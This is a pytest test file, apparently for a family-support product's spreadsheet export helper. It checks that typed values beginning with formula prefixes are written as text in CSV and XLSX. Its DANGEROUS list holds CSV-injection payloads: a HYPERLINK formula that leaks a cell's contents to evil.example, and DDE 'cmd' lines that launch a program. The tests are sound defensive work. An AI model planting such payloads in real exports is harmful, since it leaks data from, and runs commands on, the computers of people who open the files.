"""Nothing a person typed runs as a formula in a spreadsheet the product writes."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from familysupport.exports import Sheet, csv_content, neutralised, xlsx_content

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Faktura")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("typed", DANGEROUS)
def test_every_dangerous_prefix_is_written_as_text_in_csv(typed):
    content = csv_content([["Wystawca", typed]], delimiter=";")
    (row,) = csv.reader(io.StringIO(content.lstrip("\ufeff")), delimiter=";")
    assert row == ["Wystawca", "'" + typed]


@pytest.mark.parametrize("typed", DANGEROUS)
def test_every_dangerous_prefix_is_a_string_cell_in_xlsx(typed):
    content = xlsx_content(Sheet("Zwroty", rows=[["Wystawca"], [typed]]))
    cell = load_workbook(io.BytesIO(content)).active["A2"]
    # (XML keeps a carriage return as a line end.)
    assert cell.data_type == "s" and cell.value == typed.replace("\r", "\n")
    assert cell.quotePrefix


def test_numbers_and_dates_stay_numbers_and_dates():
    day = datetime.date(2026, 12, 3)
    content = xlsx_content(
        Sheet("Zwroty", rows=[["Kwota", "Data"], [Decimal("-120.50"), day]], number_formats={"A": "#,##0.00"})
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].value == -120.5 and sheet["A2"].data_type == "n"
    assert sheet["B2"].value.date() == day
    assert neutralised("Rodzina Kowalskich") == "Rodzina Kowalskich"


def test_no_module_writes_a_spreadsheet_but_the_export_helper():
    """Every CSV and XLSX the product writes goes through familysupport/exports.py."""
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"\bcsv\.writer\(|\bWorkbook\(")
    offenders = [
        str(path.relative_to(root))
        for app in ("familysupport", "cases", "monitoring", "assistants", "supportfamilies", "overview")
        for path in (root / app).rglob("*.py")
        if "tests" not in path.parts and path.name != "exports.py" and writers.search(path.read_text())
    ]
    assert offenders == []
